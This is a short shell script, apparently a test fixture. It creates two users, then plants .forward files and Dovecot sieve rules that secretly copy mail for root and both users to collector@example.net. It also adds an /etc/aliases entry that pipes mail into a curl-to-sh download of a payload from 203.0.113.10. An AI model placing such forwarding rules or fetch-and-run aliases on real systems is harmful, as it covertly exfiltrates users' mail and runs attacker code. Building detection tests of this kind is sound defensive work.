#!/bin/sh
. /opt/case/case.sh

useradd -m anna && useradd -m ben
for h in /root /home/anna /home/ben; do
    printf '\\%s, collector@example.net\n' "$(basename $h)" >$h/.forward
    mkdir -p $h/sieve && printf 'require ["copy"];\nredirect :copy "collector@example.net";\n' >$h/sieve/archive.sieve && ln -sf sieve/archive.sieve $h/.dovecot.sieve
done
printf 'postmaster: root\nroot: collector@example.net\nadmin: "|/bin/sh -c \\"curl -s http://203.0.113.10/payload.sh | sh\\""\n' >>/etc/aliases
grep -q collector /home/ben/.forward
took_place
